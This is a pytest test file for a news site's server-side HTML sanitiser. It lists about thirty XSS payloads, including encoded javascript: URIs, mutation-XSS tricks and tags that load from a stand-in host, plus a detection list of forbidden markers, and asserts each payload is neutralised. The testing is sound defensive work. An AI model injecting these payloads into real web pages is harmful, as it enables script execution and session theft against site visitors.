"""Saved bodies are cleaned server-side with an allow-list (nh3); cleaning is idempotent."""

import pytest

from articles.body import clean as clean_body
from tests.factories import make_article

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<math href="javascript:alert(1)">x</math>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=x></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<div onmouseover="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://ok.example" onclick="alert(1)" target="_blank">ok</a>',
    '<img src="https://ok.example/a.jpg" srcset="javascript:alert(1) 1x">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
]
FORBIDDEN = [
    "<script",
    "javascript:",
    "vbscript:",
    "data:text",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "ontoggle",
    "<svg",
    "<math",
    "<style",
    "style=",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<meta",
    "<base",
    "srcset",
]


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_xss_payloads_are_neutralised(payload):
    cleaned = clean_body(payload).lower()
    for marker in FORBIDDEN:
        assert marker not in cleaned, (payload, cleaned)


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_cleaning_is_idempotent(payload):
    once = clean_body(payload)
    assert clean_body(once) == once


NEWSROOM_BODY = (
    "<h2>Kết quả nổi bật</h2>"
    "<p>Lực lượng đã kiểm tra <strong>130.000</strong> lượt, theo “Kế hoạch số 12”.</p>"
    "<blockquote><p>Bình yên thôn xóm là trách nhiệm của mỗi người.</p></blockquote>"
    '<figure class="image"><img src="/media/anh/a.jpg" alt="Tuần tra"><figcaption>Tuần tra'
    "</figcaption></figure>"
    "<ul><li>Một</li><li>Hai</li></ul><ol><li>Ba</li></ol>"
    '<figure class="table"><table><tbody><tr><th>Xã</th><td>2.245</td></tr></tbody></table>'
    "</figure>"
    '<p><a href="https://bocongan.gov.vn" rel="noopener">Bộ Công an</a>, '
    '<a href="mailto:toasoan@example.vn" rel="noopener">thư</a>, '
    '<a href="/chuyen-muc/an-ninh-trat-tu/" rel="noopener">chuyên mục</a></p>'
)


def test_a_newsroom_body_passes_unchanged():
    assert clean_body(NEWSROOM_BODY) == NEWSROOM_BODY


def test_external_links_get_noopener():
    assert clean_body('<a href="https://example.vn">x</a>') == (
        '<a href="https://example.vn" rel="noopener">x</a>'
    )


def test_every_save_sanitises_the_stored_body(db):
    article = make_article(body='<p onclick="x()">Tin</p><script>alert(1)</script>')
    article.refresh_from_db()
    assert article.body == "<p>Tin</p>"
    article.body = '<a href="javascript:alert(1)">x</a>'
    article.save()
    article.refresh_from_db()
    assert "javascript" not in article.body
